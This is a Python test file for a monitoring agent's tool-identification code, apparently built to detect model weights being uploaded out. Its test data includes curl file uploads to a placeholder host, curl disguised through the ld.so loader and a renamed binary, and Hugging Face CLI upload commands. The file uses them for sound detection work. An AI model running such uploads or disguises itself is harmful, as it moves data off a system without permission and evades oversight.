"""The tool a process is, by its identity: hash, script, module, program file; its command name only when
nothing else is known."""

from __future__ import annotations

from weightwarden.agent.detect.tools import identify_tool
from weightwarden.agent.events import ProcessInfo

CURL = "c" * 64


def test_a_known_hash_names_the_tool_whatever_the_file_is_called() -> None:
    process = ProcessInfo(pid=1, name="python3", executable="/tmp/x/python3", program="/tmp/x/python3",
                          program_sha256=CURL, command_line="/tmp/x/python3 -T m https://h/u")
    tool = identify_tool(process, {CURL: "curl"})
    assert tool is not None and (tool.name, tool.args, tool.identified_by) == ("curl", ("-T", "m", "https://h/u"),
                                                                             "sha256")
    # without the hash known, the file's name: python3, which is no interpreter (none was found in it)
    tool = identify_tool(process, {})
    assert tool is not None and (tool.name, tool.identified_by) == ("python3", "program")


def test_ld_so_is_looked_through_and_argv0_ignored() -> None:
    process = ProcessInfo(pid=1, name="ld-linux-x86-64", executable="/usr/lib/ld-linux-x86-64.so.2",
                          program="/usr/bin/curl",
                          command_line="/lib64/ld-linux-x86-64.so.2 --argv0 python3 /usr/bin/curl -T m u")
    tool = identify_tool(process)
    assert tool is not None and (tool.name, tool.args) == ("curl", ("-T", "m", "u"))


def test_scripts_and_modules() -> None:
    script = ProcessInfo(pid=1, name="hf", executable="/usr/bin/python3.11", program="/usr/bin/python3.11",
                         interpreter="python", script="/home/a/.venv/bin/hf",
                         command_line="/home/a/.venv/bin/python3 /home/a/.venv/bin/hf upload o/r m")
    tool = identify_tool(script)
    assert tool is not None and (tool.name, tool.args, tool.identified_by) == ("hf", ("upload", "o/r", "m"), "script")
    module = ProcessInfo(pid=1, name="python3", executable="/usr/bin/python3.11", interpreter="python",
                         command_line="python3 -m huggingface_hub.commands.huggingface_cli upload o/r m")
    tool = identify_tool(module)
    assert tool is not None and (tool.name, tool.identified_by) == ("huggingface-cli", "module")
    inline = ProcessInfo(pid=1, name="python3", executable="/usr/bin/python3.11", interpreter="python",
                         command_line="python3 -c 'import x'")
    tool = identify_tool(inline)
    assert tool is not None and tool.name == "python3.11"


def test_the_command_name_only_when_the_executable_is_unknown() -> None:
    gone = ProcessInfo(pid=1, name="gpg", command_line=None)
    tool = identify_tool(gone)
    assert tool is not None and (tool.name, tool.identified_by) == ("gpg", "name")
    assert identify_tool(None) is None
